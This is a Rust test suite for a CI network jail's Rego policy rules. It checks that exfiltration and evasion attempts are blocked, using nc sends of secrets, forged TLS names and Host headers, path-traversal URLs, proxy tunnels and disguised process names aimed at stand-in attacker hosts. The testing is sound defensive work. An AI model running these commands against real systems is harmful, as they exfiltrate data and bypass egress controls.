//! Rules in Rego beside the policy's own.

mod kntrl;
mod labels;
mod patterns;

use std::fs;
use std::os::unix::fs::symlink;

use nix::sys::stat::Mode as Permissions;
use nix::unistd::mkfifo;

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::{Reply, World};

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        rego_allows_and_denies_by_name,
        rego_allows_by_port_and_address,
        rego_judges_requests,
        a_path_that_can_be_read_in_two_ways_is_not_allowed_by_rego,
        an_address_that_rego_allows_is_no_way_to_others,
        rego_judges_datagrams,
        rego_looks_at_the_process,
        what_fails_in_rego_denies,
        private_addresses_stay_closed_to_rego,
        names_that_rego_allows_are_counted,
        mistakes_in_rego_run_nothing,
        rego_is_explained_and_checked,
        rego_in_monitor_mode,
    );
    kntrl::add(suite);
    labels::add(suite);
    patterns::add(suite);
}

const HEAD: &str = "package cijail\nimport rego.v1\n";

/// A jail with a module of these rules.
pub(crate) fn with_rules<'w>(world: &World, jail: Jail<'w>, rules: &str) -> Jail<'w> {
    let path = world.files().shared().join("rules.rego");
    fs::write(&path, format!("{HEAD}{rules}")).unwrap();
    jail.option("--rego").option(path)
}

fn curl(url: &str) -> [&str; 5] {
    ["curl", "-sS", "--max-time", "10", url]
}

fn rego_allows_and_denies_by_name(mode: Mode) {
    let world = World::new();
    for name in ["one.test", "two.test", "both.test"] {
        world.site(name);
    }
    let rules = "allow if input.name in {\"one.test\", \"both.test\"}\ndeny contains \"not this one\" if input.name == \"both.test\"\n";
    let jail = with_rules(&world, Jail::new(&world, mode), rules)
        .allow("two.test")
        .allow("both.test")
        .deny("evil.test");
    for url in ["https://one.test/", "http://one.test/", "https://two.test/"] {
        let outcome = jail.run(curl(url));
        outcome.assert_success();
        assert!(outcome.denied().is_empty(), "{outcome}");
    }
    let outcome = jail.run(curl("https://one.test/"));
    assert!(outcome.events.iter().all(|event| event.rule.as_deref() == Some("rego: allow")), "{outcome}");
    // A rule that denies wins over both.
    let outcome = jail.run(curl("https://both.test/"));
    outcome.assert_failure().assert_denied("dns", "both.test", "not-allowed");
    assert_eq!(outcome.events[0].rule.as_deref(), Some("rego: deny"));
    assert!(outcome.events[0].detail.as_deref().unwrap().contains("not this one"), "{outcome}");
    jail.run(curl("https://evil.test/")).assert_failure().assert_denied("dns", "evil.test", "not-allowed");
    // A name in the server name that nobody resolved.
    let stolen = "curl -sS --max-time 5 --resolve evil.test:443:198.51.100.66 https://evil.test/; exit 0";
    jail.shell(stolen).assert_denied("tls", "evil.test", "not-allowed");
    world.assert_attacker_saw_nothing();
}

fn rego_allows_by_port_and_address(mode: Mode) {
    let world = World::new();
    let (_, address) = world.tcp_echo("echo.test", 7007, b"hello\n");
    world.tcp_echo("other.test", 7008, b"hello\n");
    let rules = "allow if { input.protocol == \"dns\"; endswith(input.name, \".test\"); input.name != \"evil.test\" }\n\
                 allow if input.port == 7007\n";
    let jail = with_rules(&world, Jail::new(&world, mode), rules);
    // The server speaks first.
    let say = |to: &str| format!("echo question | nc -N -w 5 {to}; exit 0");
    jail.shell(&say("echo.test 7007"))
        .assert_success()
        .assert_says("hello")
        .assert_allowed("tcp", "echo.test");
    jail.shell(&say(&format!("{address} 7007"))).assert_says("hello");
    jail.shell(&say("other.test 7008")).assert_denied("tcp", "other.test", "not-allowed");
    jail.shell(&say("198.51.100.66 7008")).assert_denied("tcp", "198.51.100.66", "ip-not-allowed");
    world.assert_attacker_saw_nothing();
}

fn rego_judges_requests(mode: Mode) {
    let world = World::new();
    let site = world.site("site.test");
    site.page("/open/a", Reply::ok("a\n"));
    let rules = "allow if input.protocol == \"dns\"\n\
                 allow if { input.method == \"GET\"; startswith(input.url, \"http://site.test/open/\") }\n";
    let jail = with_rules(&world, Jail::new(&world, mode), rules);
    jail.run(curl("http://site.test/open/a")).assert_success().assert_stdout("a\n");
    jail.run(curl("http://site.test/closed")).assert_denied("http", "site.test", "not-allowed");
    jail.run(["curl", "-sS", "-d", "x", "http://site.test/open/a"]).assert_denied(
        "http",
        "site.test",
        "not-allowed",
    );
    // Another host in the request than in the connection's address is dialled by its own name.
    jail.run(["curl", "-sS", "-H", "Host: evil.test", "http://site.test/open/a"]).assert_denied(
        "http",
        "evil.test",
        "not-allowed",
    );
    assert_eq!(site.requests().len(), 1);
    world.assert_attacker_saw_nothing();
}

fn a_path_that_can_be_read_in_two_ways_is_not_allowed_by_rego(mode: Mode) {
    let world = World::new();
    let site = world.site("site.test");
    let rules = "allow if input.protocol == \"dns\"\n\
                 allow if startswith(input.url, \"http://site.test/open/\")\n\
                 deny if startswith(input.url, \"http://site.test/open/secret\")\n";
    let jail = with_rules(&world, Jail::new(&world, mode), rules);
    let get = |path: &str| {
        let url = format!("http://site.test{path}");
        jail.run([
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--path-as-is",
            "-o",
            "body",
            "-w",
            "%{http_code}",
            &url,
        ])
    };
    get("/o%70en/a").assert_stdout("404");
    for path in
        ["/open/../closed", "/open/%2e%2e/closed", "/open/..%2fclosed", "/open//closed", "/open/..;/closed"]
    {
        get(path).assert_stdout("403").assert_denied("http", "site.test", "not-allowed");
    }
    get("/open/s%65cret").assert_stdout("403").assert_denied("http", "site.test", "not-allowed");
    assert_eq!(site.requests().len(), 1);
}

fn an_address_that_rego_allows_is_no_way_to_others(mode: Mode) {
    let world = World::new();
    let site = world.site("site.test");
    site.page("/", Reply::ok("allowed\n"));
    let address = site.addresses()[0].to_string();
    // A name of the attacker's that has this address too, and others for where nothing listens on it.
    world.zone().address("shared.test", site.addresses()[0]).address("shared.test", [198, 51, 100, 66]);
    let rules = format!(
        "allow if input.address == \"{address}\"\nallow if {{ input.protocol == \"dns\"; input.name == \"shared.test\" }}\n"
    );
    let jail = with_rules(&world, Jail::new(&world, mode), &rules);
    // Whatever the job names there, the bytes go to that address.
    for (scheme, port) in [("https", 443), ("http", 80)] {
        let resolve = format!("evil.test:{port}:{address}");
        let url = format!("{scheme}://evil.test/");
        jail.run(["curl", "-sSk", "--max-time", "10", "--resolve", &resolve, &url]);
    }
    let plain = format!("http://{address}/");
    jail.run(["curl", "-sS", "--max-time", "10", "-H", "Host: evil.test:8080", &plain]);
    let proxy = format!("http://{address}:80");
    for target in ["http://198.51.100.66/", "http://evil.test:8080/", "https://evil.test/"] {
        let outcome = jail.run(["curl", "-sS", "--max-time", "10", "-x", &proxy, target]);
        assert!(!outcome.denied().is_empty(), "{target}: {outcome}");
    }
    jail.run(["curl", "-sS", "--max-time", "10", "-H", "Host: 198.51.100.66", &plain]).assert_denied(
        "http",
        "198.51.100.66",
        "ip-not-allowed",
    );
    let other_port = format!("dig +short shared.test; echo secret | nc -N -w 5 {address} 7099; exit 0");
    jail.shell(&other_port).assert_says(&address).assert_event("allow", "tcp", "shared.test", None);
    world.assert_attacker_saw_nothing();
    jail.run(["curl", "-sS", "--max-time", "10", &plain]).assert_stdout("allowed\n");
}

fn rego_judges_datagrams(mode: Mode) {
    let world = World::new();
    let (_, address) = world.udp_echo("time.test", 123);
    let send = |to: &str, port: u16| {
        format!(
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(10)\n\
             s.connect(('{to}', {port}))\ns.send(b'ping')\n\
             try: print(s.recv(9))\nexcept OSError as error: print('refused')\n"
        )
    };
    let rules =
        "allow if { input.protocol == \"udp\"; input.port == 123; input.address != \"198.51.100.66\" }\n";
    let jail = with_rules(&world, Jail::new(&world, mode), rules);
    let outcome = jail.python(&send(&address.to_string(), 123));
    outcome.assert_stdout("b'ping'\n").assert_allowed("udp", &address.to_string());
    for (to, port) in [("198.51.100.66", 123), ("198.51.100.66", 124)] {
        let outcome = jail.python(&send(to, port));
        outcome.assert_stdout("refused\n").assert_denied("udp", to, "ip-not-allowed");
    }
    let objecting = with_rules(&world, Jail::new(&world, mode), "deny if input.protocol == \"udp\"\n");
    let outcome = objecting.allow(&format!("{address}:123/udp")).python(&send(&address.to_string(), 123));
    outcome.assert_stdout("refused\n").assert_denied("udp", &address.to_string(), "not-allowed");
    world.assert_attacker_saw_nothing();
}

fn rego_looks_at_the_process(mode: Mode) {
    let world = World::new();
    let site = world.site("site.test");
    let rules = "allow if { input.name == \"site.test\"; endswith(input.process.exe, \"/curl\") }\n\
                 deny if { some parent in input.process.parents; endswith(parent, \"/npm\") }\n";
    let jail = with_rules(&world, Jail::new(&world, mode), rules);
    jail.run(curl("http://site.test/")).assert_success();
    let python = "import urllib.request\n\
                  try: print(urllib.request.urlopen('http://site.test/', timeout=10).read())\n\
                  except OSError: print('refused')\n";
    let outcome = jail.python(python);
    outcome.assert_stdout("refused\n").assert_denied("dns", "site.test", "not-allowed");
    // A process that calls itself otherwise is told by its executable, and what npm starts by its ancestor.
    let forged = "exec -a curl /usr/bin/python3 -c \"$0\"";
    jail.run(["bash", "-c", forged, python]).assert_stdout("refused\n");
    let below = "cp /bin/bash npm; ./npm -c 'curl -sS --max-time 10 http://site.test/; exit 0'";
    jail.shell(below).assert_denied("dns", "site.test", "not-allowed");
    assert_eq!(site.requests().len(), 1);
    // Nobody reads a log: the rules are told all the same.
    let quiet = jail.clone().without_log_file().option("--quiet");
    quiet.run(curl("http://site.test/")).assert_success();
}

fn what_fails_in_rego_denies(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    for (rules, rule, reason) in [
        (
            "f(x) := 1\nf(x) := 2 if x == \"good.test\"\nallow if f(input.name) > 0\n",
            "rego: error",
            "not-allowed",
        ),
        ("allow := input.name\n", "rego: error", "not-allowed"),
        (
            "allow if { some a in numbers.range(1, 100000); some b in numbers.range(1, 100000); a * b == 0 }\n",
            "rego: deadline",
            "limit",
        ),
    ] {
        let outcome = with_rules(&world, Jail::new(&world, mode), rules)
            .allow("good.test")
            .run(curl("https://good.test/"));
        outcome.assert_failure().assert_denied("dns", "good.test", reason);
        assert!(
            outcome.denied().iter().all(|event| event.rule.as_deref() == Some(rule)),
            "{rules}: {outcome}"
        );
    }
}

fn private_addresses_stay_closed_to_rego(mode: Mode) {
    let world = World::new();
    world.zone().address("in.test", [10, 1, 2, 3]);
    let jail = with_rules(&world, Jail::new(&world, mode), "default allow := true\n");
    jail.run(["dig", "+short", "in.test"]).assert_stdout("").assert_denied(
        "dns",
        "in.test",
        "private-address",
    );
    for address in ["10.1.2.3", "169.254.169.254", "127.0.0.2"] {
        let outcome = jail.run(["curl", "-sS", "--max-time", "3", &format!("http://{address}/")]);
        assert!(outcome.events.iter().all(|event| event.verdict == "deny"), "{outcome}");
    }
    // TLS without a name, and names that are none.
    let nameless = "import socket, ssl\nc = ssl._create_unverified_context()\n\
                    s = c.wrap_socket(socket.create_connection(('198.51.100.66', 443), 5))\n";
    jail.python(nameless).assert_failure().assert_denied("tls", "198.51.100.66", "no-sni");
    // A tunnel to a DNS server would go by the filter of names.
    let tunnel =
        "printf 'CONNECT 198.51.100.66:53 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' | nc -N -w 5 198.51.100.66 80";
    jail.shell(tunnel).assert_says(" 403").assert_denied("http", "198.51.100.66", "ip-not-allowed");
    // Whom the job may ask for names is not Rego's to say.
    jail.run(["dig", "+time=1", "+tries=1", "@198.51.100.66", "good.test"]).assert_denied(
        "dns",
        "good.test",
        "dns-server-not-allowed",
    );
    world.assert_attacker_saw_nothing();
}

fn names_that_rego_allows_are_counted(mode: Mode) {
    let world = World::new();
    let toml = "[limits]\nwildcard-names = 3\n";
    let jail = with_rules(&world, Jail::new(&world, mode), "allow if endswith(input.name, \".evil.test\")\n")
        .policy(toml);
    let outcome = jail.shell("for n in 1 2 3 4 5 1; do dig +short n$n.evil.test; done");
    let denied: Vec<&str> = outcome.denied().iter().filter_map(|event| event.name.as_deref()).collect();
    assert_eq!(denied, ["n4.evil.test", "n5.evil.test"], "{outcome}");
    outcome.assert_denied("dns", "n4.evil.test", "limit");
}

fn mistakes_in_rego_run_nothing(mode: Mode) {
    let world = World::new();
    let jail = with_rules(&world, Jail::new(&world, mode), "allow if {\n  input.name = = 1\n}\n");
    let outcome = jail.shell("touch ran");
    outcome.assert_code(125).assert_says("rules.rego:4:");
    with_rules(&world, Jail::new(&world, mode), "permit := true\n")
        .shell("touch ran")
        .assert_code(125)
        .assert_says("data.cijail.allow");
    let outcome =
        with_rules(&world, Jail::new(&world, mode), "allow if time.now_ns() > 0\n").shell("touch ran");
    outcome.assert_code(125).assert_says("rules.rego:3:").assert_says("time.now_ns");
    let parts = world.files().shared().join("parts");
    fs::create_dir_all(&parts).unwrap();
    for name in ["1.rego", "2.rego"] {
        fs::write(parts.join(name), format!("{HEAD}allow if f(input.name)\nf(x) if x == \"a\"\n")).unwrap();
    }
    let outcome = Jail::new(&world, mode).option("--rego").option(&parts).shell("touch ran");
    outcome.assert_code(125).assert_says("2.rego:4:1: the function cijail.f").assert_says("1.rego as well");
    // A link that leads back, and a pipe that nobody writes to.
    let odd = world.files().shared().join("odd");
    fs::create_dir_all(&odd).unwrap();
    fs::write(odd.join("z.rego"), format!("{HEAD}allow := true\n")).unwrap();
    symlink(".", odd.join("again")).unwrap();
    let jail = Jail::new(&world, mode).option("--rego").option(&odd);
    jail.shell("touch ran").assert_code(125).assert_says("deep");
    fs::remove_file(odd.join("again")).unwrap();
    mkfifo(&odd.join("a.rego"), Permissions::S_IRUSR).unwrap();
    jail.shell("touch ran").assert_code(125).assert_says("a.rego is no file");
    for path in ["/nowhere.rego", "/etc/hosts"] {
        Jail::new(&world, mode)
            .option("--rego")
            .option(path)
            .shell("touch ran")
            .assert_code(125)
            .assert_says(path);
    }
    assert!(!jail.home().join("ran").exists());
}

fn rego_is_explained_and_checked(mode: Mode) {
    let world = World::new();
    let path = world.files().shared().join("rules.rego");
    fs::write(&path, format!("{HEAD}allow if input.name == \"a.test\"\ndeny if input.port == 80\n")).unwrap();
    let path = path.to_str().unwrap();
    let bare = Jail::bare(&world, mode);
    bare.run(["policy", "explain", "--rego", path, "a.test:443"]).assert_success().assert_says("rego: allow");
    bare.run(["policy", "explain", "--rego", path, "--allow", "b.test", "http://b.test/"])
        .assert_code(1)
        .assert_says("rego: deny");
    bare.run(["policy", "explain", "--rego", path, "c.test:443"]).assert_code(1);
    bare.run(["policy", "check", "--rego", path]).assert_success();
    fs::write(path, "package cijail\nallow if {").unwrap();
    bare.run(["policy", "check", "--rego", path]).assert_code(125).assert_says("rules.rego:2:");
}

fn rego_in_monitor_mode(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let jail = with_rules(&world, Jail::new(&world, mode), "deny if input.name == \"good.test\"\n");
    let jail = jail.allow("good.test").option("--mode").option("monitor");
    jail.run(curl("https://good.test/")).assert_success().assert_event(
        "would-deny",
        "tls",
        "good.test",
        Some("not-allowed"),
    );
}
